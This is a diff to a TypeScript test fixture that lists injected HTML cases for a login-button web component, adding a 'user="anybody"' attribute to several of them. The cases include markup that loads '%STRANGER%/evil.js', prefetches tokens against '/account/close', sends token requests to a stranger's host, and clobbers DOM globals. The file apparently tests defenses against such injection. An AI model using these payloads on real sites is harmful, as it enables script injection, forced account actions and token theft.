@@ -19,14 +19,14 @@ const injected: Record<string, string> = {
   "the same, when it is seen": `<human-connect-button prepare-on="visible" client-url="%STRANGER%/evil.js"></human-connect-button>`,
   "the same, with the focus": `<human-connect-button autofocus client-url="%STRANGER%/evil.js"></human-connect-button>`,
   "a script of the site": `<human-connect-button prepare-on="mount" client-url="%SITE%/uploads/evil.js"></human-connect-button>`,
-  "a post with the cookie": `<human-connect-button prepare-on="mount" prefetch-token token-url="/account/close" ${own}></human-connect-button>`,
-  "the same, of a card that is seen": `<human-connect-card prepare-on="visible" prefetch-token token-url="/account/close" ${own}></human-connect-card>`,
-  "the same, of a button with the focus": `<human-connect-button autofocus prefetch-token token-url="/account/close" ${own}></human-connect-button>`,
+  "a post with the cookie": `<human-connect-button prepare-on="mount" user="anybody" prefetch-token token-url="/account/close" ${own}></human-connect-button>`,
+  "the same, of a card that is seen": `<human-connect-card prepare-on="visible" user="anybody" prefetch-token token-url="/account/close" ${own}></human-connect-card>`,
+  "the same, of a button with the focus": `<human-connect-button autofocus user="anybody" prefetch-token token-url="/account/close" ${own}></human-connect-button>`,
   "a page of a stranger": `<human-connect-button prepare-on="mount" base-url="https://127.0.0.1:1" token-url="/token" ${own}></human-connect-button>`,
-  "a token of a stranger": `<human-connect-button prepare-on="mount" prefetch-token token-url="%STRANGER%/token" ${own}></human-connect-button>`,
-  "a follower": `<human-connect-button id="leader" prefetch-token token-url="/account/close" ${own}></human-connect-button><human-connect-button for="leader" prepare-on="mount"></human-connect-button>`,
-  "a shadow root": `<human-connect-button prepare-on="mount" prefetch-token token-url="/account/close" ${own}><template shadowrootmode="open"><button autofocus></button></template></human-connect-button>`,
-  "names of the page's own things": `<img name="baseURI"><img name="body"><img name="createTextNode"><a id="trustedTypes"></a><a id="customElements"></a><a id="reactiveElementVersions"></a><iframe name="reactiveElementPolyfillSupport"></iframe><a id="ShadyCSS"></a><a id="litNonce"></a><human-connect-button prepare-on="mount" prefetch-token token-url="/account/close" client-url="%STRANGER%/evil.js"></human-connect-button>`,
+  "a token of a stranger": `<human-connect-button prepare-on="mount" user="anybody" prefetch-token token-url="%STRANGER%/token" ${own}></human-connect-button>`,
+  "a follower": `<human-connect-button id="leader" user="anybody" prefetch-token token-url="/account/close" ${own}></human-connect-button><human-connect-button for="leader" prepare-on="mount"></human-connect-button>`,
+  "a shadow root": `<human-connect-button prepare-on="mount" user="anybody" prefetch-token token-url="/account/close" ${own}><template shadowrootmode="open"><button autofocus></button></template></human-connect-button>`,
+  "names of the page's own things": `<img name="baseURI"><img name="body"><img name="createTextNode"><a id="trustedTypes"></a><a id="customElements"></a><a id="reactiveElementVersions"></a><iframe name="reactiveElementPolyfillSupport"></iframe><a id="ShadyCSS"></a><a id="litNonce"></a><human-connect-button prepare-on="mount" user="anybody" prefetch-token token-url="/account/close" client-url="%STRANGER%/evil.js"></human-connect-button>`,
 };
 const kinds = Object.keys(injected);
 /** The site's own, last on the page: when it has been prepared, the others had their turn. */
